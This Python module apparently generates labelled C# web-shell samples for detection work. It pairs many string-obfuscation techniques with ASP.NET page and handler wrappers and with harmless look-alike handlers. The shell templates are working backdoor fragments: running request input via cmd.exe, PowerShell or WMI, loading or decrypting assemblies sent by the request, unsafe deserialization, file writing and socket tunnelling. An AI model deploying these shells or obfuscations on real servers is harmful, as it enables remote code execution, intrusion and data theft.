"""C# pages, handlers and services: how texts are hidden, what shells do, what harmless ones do."""

from __future__ import annotations

import json
import random

from obfuscation import (
    Deed,
    Language,
    Way,
    as_it_is,
    base64_,
    deflated,
    each,
    every_second,
    gzipped,
    hexadecimal,
    hexadecimal_apart,
    mirrored,
    multiplied,
    numbered_pieces,
    numbers_text,
    outside_texts,
    percents,
    picked,
    pieces,
    reversed_,
    shifted,
    stuffed,
    xored,
    xored_by_word,
)


def commented(rng: random.Random, code: str) -> str:
    """With comments between names and what stands behind them."""
    return outside_texts(r"[.(;]", code, lambda found: rng.choice(("", "", "/**/")) + found[0])


def escaped(rng: random.Random, code: str) -> str:
    """With a letter of some names written by its number."""
    return outside_texts(
        r"(?<=[.])[A-Za-z]",
        code,
        lambda found: rng.choice((found[0], f"\\u{ord(found[0]):04x}")),
    )


def _spaced(rng: random.Random, code: str) -> str:
    return outside_texts(r"[.(]", code, lambda found: rng.choice((found[0], f" \n {found[0]}")))


_LOOP = "for(int $i=0;$i<$a.Length;$i++)"
_TEXT = "System.Text.Encoding"
_WAYS = (
    Way("pieces", pieces("+"), "$bare"),
    Way("string.Concat", pieces(","), "string.Concat($bare)"),
    Way("string.Join", pieces(","), 'string.Join("",new[]{$bare})'),
    Way("string.Format", numbered_pieces, "string.Format($holes,$bare)"),
    Way("escapes", each("\\u$u", ""), '"$bare"'),
    Way("hex escapes", each("\\x$u", ""), '"$bare"'),
    Way("letters", each("(char)$n", "+"), '""+$bare'),
    Way("letters by sums", each("(char)($more-$less)", "+"), '""+$bare'),
    Way("letters of hex", each("(char)0x$x", ","), "new string(new[]{$bare})"),
    Way("Convert.ToChar", each("Convert.ToChar($n)", ","), "string.Concat($bare)"),
    Way("bytes", each("$n", ","), f"{_TEXT}.ASCII.GetString(new byte[]{{$bare}})"),
    Way("Reverse of LINQ", reversed_, "new string($data.Reverse().ToArray())"),
    Way("Reverse and Join", reversed_, 'string.Join("",$data.Reverse())'),
    Way("Array.Reverse", reversed_, "new string($v)",
        "char[] $v=$data.ToCharArray();Array.Reverse($v);"),
    Way("Replace", stuffed, '$data.Replace($junk,"")'),
    Way("Replace by Empty", stuffed, "$data.Replace($junk,string.Empty)"),
    Way("Regex.Replace", stuffed,
        'System.Text.RegularExpressions.Regex.Replace($data,System.Text.RegularExpressions.Regex'
        '.Escape($junk),"")'),
    Way("Split and Join", stuffed,
        'string.Join("",$data.Split(new[]{$junk},StringSplitOptions.None))'),
    Way("unescape", percents, "Uri.UnescapeDataString($data)"),
    Way("HttpUtility", percents, "System.Web.HttpUtility.UrlDecode($data)"),
    Way("base64", base64_, f"{_TEXT}.UTF8.GetString(Convert.FromBase64String($data))"),
    Way("base64 of an alias", base64_, f"{_TEXT}.Default.GetString($v)",
        "byte[] $v=System.Convert.FromBase64String($data);"),
    Way("base64 in a function", base64_, "$f($data)", "",
        f"static string $f(string $a){{return {_TEXT}.GetEncoding(65001).GetString("
        "Convert.FromBase64String($a));}"),
    Way("deflate", deflated, "$f($data)", "",
        "static string $f(string $a){using(var $r=new System.IO.StreamReader(new System.IO."
        "Compression.DeflateStream(new System.IO.MemoryStream(Convert.FromBase64String($a)),System"
        ".IO.Compression.CompressionMode.Decompress)))return $r.ReadToEnd();}"),
    Way("gzip", gzipped, f"{_TEXT}.UTF8.GetString($o.ToArray())",
        "var $m=new System.IO.MemoryStream(Convert.FromBase64String($data));"
        "var $z=new System.IO.Compression.GZipStream($m,System.IO.Compression.CompressionMode."
        "Decompress);var $o=new System.IO.MemoryStream();$z.CopyTo($o);"),
    Way("xor in for", xored, "$r",
        'int[] $a={$bare};string $r="";' + _LOOP + "{$r+=(char)($a[$i]^$key);}"),
    Way("xor in place", xored, f"{_TEXT}.ASCII.GetString($a)",
        "var $a=new byte[]{$bare};" + _LOOP + "$a[$i]^=$key;"),
    Way("xor of bytes in place", xored, f"{_TEXT}.ASCII.GetString($a)",
        "byte[] $a=new byte[]{$bare};" + _LOOP + "{$a[$i]=(byte)($a[$i]^$key);}"),
    Way("xor in while", xored, "$r",
        'int[] $a=new int[]{$bare};string $r="";int $i=0;while($i<$a.Length){'
        "$r+=(char)($a[$i]^$key);$i++;}"),
    Way("xor in do", xored, "$r",
        'int[] $a=new int[]{$bare};string $r="";int $i=0;do{$r+=(char)($a[$i]^$key);$i++;}'
        "while($i<$a.Length);"),
    Way("xor by a word", xored_by_word, "$f(new int[]{$bare},$word)", "",
        'string $f(int[] $a,string $k){string $r="";' + _LOOP
        + "{$r+=(char)($a[$i]^$k[$i%$k.Length]);}return $r;}"),
    Way("list filled", xored, "new string($l.ToArray())",
        "var $l=new System.Collections.Generic.List<char>();foreach(int $c in new int[]{$bare})"
        "{$l.Add((char)($c^$key));}"),
    Way("Select", xored, "new string(new int[]{$bare}.Select($c=>(char)($c^$key)).ToArray())"),
    Way("Select of a text", shifted,
        'string.Concat($data.Select($c=>(char)($c-$key)))'),
    Way("Aggregate", multiplied, 'new[]{$bare}.Aggregate("",($s,$c)=>$s+(char)($c/$key))'),
    Way("Array.ConvertAll", xored,
        "new string(Array.ConvertAll(new int[]{$bare},$c=>(char)($c^$key)))"),
    Way("query", shifted,
        "new string((from $c in $data select (char)($c-$key)).ToArray())"),
    Way("Where", every_second, "new string($data.Where(($c,$i)=>$i%2==0).ToArray())"),
    Way("numbers by Split", numbers_text,
        "string.Concat($data.Split(',').Select($c=>(char)(int.Parse($c)-$key)))"),
    Way("numbers in foreach", numbers_text, "$f($data)", "",
        'static string $f(string $a){string $r="";foreach(string $c in $a.Split(\',\'))'
        "{$r+=((char)(Convert.ToInt32($c)-$key)).ToString();}return $r;}"),
    Way("StringBuilder", shifted, "$f($data)", "",
        "string $f(string $p){var $r=new System.Text.StringBuilder();foreach(char $c in $p)"
        "$r.Append((char)($c-$key));return $r.ToString();}"),
    Way("StringBuilder.Insert", reversed_, "$b.ToString()",
        "var $b=new System.Text.StringBuilder();foreach(char $c in $data){$b.Insert(0,$c);}"),
    Way("recursion", shifted, "$f($data)", "",
        'string $f(string $a){if($a.Length==0)return "";return (char)($a[0]-$key)+'
        "$f($a.Substring(1));}"),
    Way("ref", shifted, "$v", "string $v=$data;$f(ref $v);",
        'void $f(ref string $a){string $r="";foreach(char $c in $a){$r+=(char)($c-$key);}$a=$r;}'),
    Way("out", shifted, "$v", "string $v;$f($data,out $v);",
        'void $f(string $a,out string $o){$o="";foreach(char $c in $a){$o+=(char)($c-$key);}}'),
    Way("lambda", shifted, "$f($data)",
        'Func<string,string> $f=$a=>{string $r="";foreach(char $c in $a)$r+=(char)($c-$key);'
        "return $r;};"),
    Way("ternary", mirrored, "$f($data)", "",
        'string $f(string $a){string $k=$letters,$r="";foreach(char $c in $a){int $p='
        "$k.IndexOf($c);$r+=$p<0?$c:$k[$k.Length-1-$p];}return $r;}"),
    Way("letters by their places", picked("$held[$at]", "+"), '""+$bare', "string $held=$letters;"),
    Way("Substring", picked("$held.Substring($at,1)", "+"), "$bare", "var $held=$letters;"),
    Way("hex", hexadecimal, "$f($data)", "",
        'static string $f(string $p){string $r="";for(int $i=0;$i<$p.Length;$i+=2)'
        "$r+=(char)Convert.ToInt32($p.Substring($i,2),16);return $r;}"),
    Way("hex to bytes", hexadecimal, "$f($data)", "",
        "static string $f(string $p){byte[] $b=new byte[$p.Length/2];for(int $i=0;$i<$b.Length;"
        f"$$i++)$b[$i]=Convert.ToByte($p.Substring($i*2,2),16);return {_TEXT}.UTF8.GetString($b);}}"
        .replace("$$i", "$i")),
    Way("hex by LINQ", hexadecimal_apart,
        f"{_TEXT}.ASCII.GetString($data.Split('-').Select($x=>Convert.ToByte($x,16)).ToArray())"),
    Way("property", shifted, "new $q{$m=$data}.$m", "",
        'class $q{string $h="";public string $m{get{return $h;}set{foreach(char $c in value)'
        "$h+=(char)($c-$key);}}}"),
    Way("switch", shifted, "$f($data)", "",
        'string $f(string $a){string $r="";foreach(char $c in $a){switch((int)$c){case 0:break;'
        "default:$r+=(char)($c-$key);break;}}return $r;}"),
    Way("as it is", as_it_is, "$data"),
)  # fmt: skip

_SHELLS = (
    Deed("run-commands", "var $v=new System.Diagnostics.ProcessStartInfo(«cmd.exe»,«/c »+$asked);"
         "$v.RedirectStandardOutput=true;$v.UseShellExecute=false;"
         "Response.Write(System.Diagnostics.Process.Start($v).StandardOutput.ReadToEnd());"),
    Deed("run-commands", "Type $v=Type.GetType(«System.Diagnostics.Process, System, "
         "Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089»);$v.GetMethod(«Start»"
         ",new[]{typeof(string),typeof(string)}).Invoke(null,new object[]{«cmd.exe»,«/c »"
         "+$asked});"),
    Deed("run-commands", "dynamic $v=Activator.CreateInstance(Type.GetTypeFromProgID("
         "«WScript.Shell»));Response.Write($v.Exec(«cmd /c »+$asked).StdOut.ReadAll());"),
    Deed("run-commands", "using(var $p=System.Management.Automation.PowerShell.Create()){"
         "$p.AddScript($asked);foreach(var $o in $p.Invoke())Response.Write($o);}"),
    Deed("run-commands", "new System.Management.ManagementClass(«Win32_Process»).InvokeMethod("
         "«Create»,new object[]{$asked});"),
    Deed("run-commands", "Microsoft.VisualBasic.Interaction.Shell($asked);"),
    Deed("load-code", "System.Reflection.Assembly.Load(Convert.FromBase64String($asked))"
         ".CreateInstance(«U»).Equals(this);"),
    Deed("load-code", "typeof(System.Reflection.Assembly).GetMethod(«Load»,new Type[]{"
         "typeof(byte[])}).Invoke(null,new object[]{Convert.FromBase64String($asked)});"),
    Deed("load-code", "AppDomain.CurrentDomain.Load(Convert.FromBase64String($asked));"),
    Deed("load-code", "var $k=System.Text.Encoding.UTF8.GetBytes(«3c6e0b8a9c15224a»);"
         "Session.Add(«k»,$k);byte[] $m=new System.Security.Cryptography.RijndaelManaged()"
         ".CreateDecryptor($k,$k).TransformFinalBlock(Request.BinaryRead(Request.ContentLength),0,"
         "Request.ContentLength);System.Reflection.Assembly.Load($m).CreateInstance(«LY»);"),
    Deed("load-code", "byte[] $d=Convert.FromBase64String($asked);for(int $i=0;$i<$d.Length;$i++)"
         "$d[$i]^=(byte)7;System.Reflection.Assembly.Load($d).EntryPoint.Invoke(null,null);"),
    Deed("run-code", "var $v=System.CodeDom.Compiler.CodeDomProvider.CreateProvider(«CSharp»);"
         "$v.CompileAssemblyFromSource(new System.CodeDom.Compiler.CompilerParameters(),$asked)"
         ".CompiledAssembly.CreateInstance(«X»);"),
    Deed("run-code", "new System.Web.UI.LosFormatter().Deserialize($asked);"),
    Deed("run-code", "new System.Runtime.Serialization.Formatters.Binary.BinaryFormatter()"
         ".Deserialize(new System.IO.MemoryStream(Convert.FromBase64String($asked)));"),
    Deed("run-code", "Microsoft.JScript.Eval.JScriptEvaluate($asked,«unsafe»,"
         "Microsoft.JScript.Vsa.VsaEngine.CreateEngine());"),
    Deed("write-files", "System.IO.File.WriteAllText(Server.MapPath($asked),$asked);"),
    Deed("write-files", "using(var $w=new System.IO.StreamWriter(System.IO.Path.Combine("
         "Server.MapPath(«~/»),$asked)))$w.Write($asked);"),
    Deed("write-files", "Request.Files[0].SaveAs(Server.MapPath(«.»)+«/»+Request.Files[0]"
         ".FileName);"),
    Deed("query-databases", "var $c=new System.Data.SqlClient.SqlConnection($asked);$c.Open();"
         "var $r=new System.Data.SqlClient.SqlCommand($asked,$c).ExecuteReader();"
         "while($r.Read())Response.Write($r[0]);"),
    Deed("tunnel", "var $s=new System.Net.Sockets.Socket(System.Net.Sockets.AddressFamily"
         ".InterNetwork,System.Net.Sockets.SocketType.Stream,System.Net.Sockets.ProtocolType.Tcp);"
         "$s.Connect($asked,int.Parse($asked));$s.Send(Convert.FromBase64String($asked));"
         "var $b=new byte[512];int $n=$s.Receive($b);Response.BinaryWrite($b);"),
)  # fmt: skip

_HARMLESS = (
    Deed("e-mail address", "Response.Write(«mailto:info@example.org»);"),
    Deed("captcha", "if(Convert.ToString(Session[«captcha»])==$asked)Response.Write(«ok»);"),
    Deed("picture", "Response.ContentType=«image/gif»;Response.BinaryWrite(Convert.FromBase64String"
         "(«R0lGODlhAQABAAAAACw=»));"),
    Deed("list for a spreadsheet", "Response.AddHeader(«Content-Disposition»,«attachment; "
         "filename=list.csv»);var $b=new System.Text.StringBuilder();foreach(var $p in "
         "$asked.Split(';'))$b.Append($p).Append(«;»);Response.Write($b.ToString());"),
    Deed("database", "var $c=new System.Data.SqlClient.SqlConnection(«Server=db;Database=shop»);"
         "var $q=new System.Data.SqlClient.SqlCommand(«select name from p where id=@id»,$c);"
         "$q.Parameters.AddWithValue(«@id»,$asked);$c.Open();Response.Write($q.ExecuteScalar());"),
    Deed("JSON", "var $s=new System.Web.Script.Serialization.JavaScriptSerializer();"
         "var $o=$s.Deserialize<System.Collections.Generic.Dictionary<string,string>>($asked);"
         "Response.Write($s.Serialize(new{a=$o[«name»]}));"),
    Deed("template",
         "Response.Write(«<b>{name}</b>».Replace(«{name}»,Server.HtmlEncode($asked)));"),
    Deed("way on", "Response.Redirect(«/default.aspx?id=»+Server.UrlEncode($asked));"),
    Deed("password's digest", "var $h=System.Security.Cryptography.SHA256.Create().ComputeHash("
         "System.Text.Encoding.UTF8.GetBytes($asked+«salt»));Response.Write(Convert.ToBase64String("
         "$h));"),
    Deed("kept page", "var $p=System.IO.File.ReadAllText(Server.MapPath(«~/help.html»));"
         "Response.Write($p);"),
    Deed("plug-in", "var $t=Type.GetType(«Shop.Reports.Monthly, Shop»);Response.Write("
         "Activator.CreateInstance($t));"),
    Deed("cookie", "Response.Cookies.Add(new HttpCookie(«theme»,$asked));"),
    Deed("log of visits", "System.IO.File.AppendAllText(Server.MapPath(«~/App_Data/visits.log»),"
         "DateTime.Now+$asked);"),
    Deed("unpacked setting", "var $m=new System.IO.MemoryStream(Convert.FromBase64String($asked));"
         "var $z=new System.IO.Compression.GZipStream($m,System.IO.Compression.CompressionMode"
         ".Decompress);Response.Write(new System.IO.StreamReader($z).ReadToEnd());"),
)  # fmt: skip

_USING = "using System;using System.Web;using System.Linq;"
_CONTEXT = "var Request=$c.Request;var Response=$c.Response;var Server=$c.Server;"
_HANDLER = (
    '<%@ WebHandler Language="C#" Class="H" %>\n' + _USING + "\npublic class H:IHttpHandler,System"
    ".Web.SessionState.IRequiresSessionState{\n$functions\npublic bool IsReusable{get{return false"
    ";}}\npublic void ProcessRequest(HttpContext Context){var Request=Context.Request;var Response="
    "Context.Response;var Server=Context.Server;var Session=Context.Session;\n$body\n}}"
)
_SERVICE = (
    '<%@ WebService Language="C#" Class="S" %>\n' + _USING + "\npublic class S:System.Web.Services"
    ".WebService{\n$functions\n[System.Web.Services.WebMethod(true)]public void Run(){var Request="
    "Context.Request;var Response=Context.Response;\n$body\n}}"
)

CSHARP = Language(
    name="C#",
    quote=json.dumps,
    ways=_WAYS,
    asked=(
        'Request["$k"]', 'Request.Form["$k"]', 'Request.QueryString["$k"]', 'Request.Headers["$k"]',
        'Request.Params["$k"]', 'Context.Request["$k"]', 'HttpContext.Current.Request["$k"]',
        "Request[«$k»]", 'Request.Cookies["$k"].Value',
        'new System.IO.StreamReader(Request.InputStream).ReadToEnd()',
        'System.Text.Encoding.UTF8.GetString(Convert.FromBase64String(Request["$k"]))',
        'new string(Request["$k"].Reverse().ToArray())', 'Request["$k"].Substring(3)',
        'System.Text.Encoding.UTF8.GetString(Request.BinaryRead(Request.TotalBytes))',
        'string.Concat(Request["$k"].Select($c=>(char)($c^5)))',
    ),
    keeps=(
        ("var $v=$value;", "$v"), ("string $v=$value;", "$v"),
        ('Session["$v"]=$value;', 'Session["$v"].ToString()'),
        ('Application["$v"]=$value;', '(string)Application["$v"]'),
        ('HttpRuntime.Cache["$v"]=$value;', 'Convert.ToString(HttpRuntime.Cache["$v"])'),
        ("string[] $v={\"\",$value};", "$v[1]"), ("object $v=$value;", "(string)$v"),
        ('Context.Items["$v"]=$value;', 'Context.Items["$v"] as string'),
        ('var $v=new System.Collections.Generic.Dictionary<string,string>{{"$k",$value}};',
         '$v["$k"]'),
        ("var $v=new{$k=$value};", "$v.$k"), ("Func<string> $v=()=>$value;", "$v()"),
        ("string $v;{$v=$value;}", "$v"), ("var $v=Tuple.Create($value,1);", "$v.Item1"),
    ),
    padding=(
        "if(false){int $i=1;}", "int $n=3;$n+=4;", "/* $v */", "string $v=\"$w\";",
        "for(int $i=0;$i<3;$i++){}", "try{int.Parse(\"1\");}catch{}", "#pragma warning disable",
        "goto $l;$l: ;",
    ),
    shells=_SHELLS,
    harmless=_HARMLESS,
    wraps=(
        ("aspx", '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Linq" %>\n<script runat='
                 '"server">\n$functions\nprotected void Page_Load(object sender, EventArgs e)\n{\n'
                 "$body\n}\n</script>"),
        ("aspx", '<%@ Page Language="C#"%><script runat=server>\n$functions\n</script>\n<%try{\n'
                 "$body\n}catch(Exception){}%>"),
        ("ashx", _HANDLER),
        ("asmx", _SERVICE),
        ("asax", '<%@ Application Language="C#" %><script runat="server">\n$functions\n'
                 "void Application_BeginRequest(object s,EventArgs e){\n$body\n}\n</script>"),
        ("cshtml", "@functions{\n$functions\n}\n@{\n$body\n}\n<p>ok</p>"),
    ),
    spellings=(commented, escaped, _spaced),
)  # fmt: skip
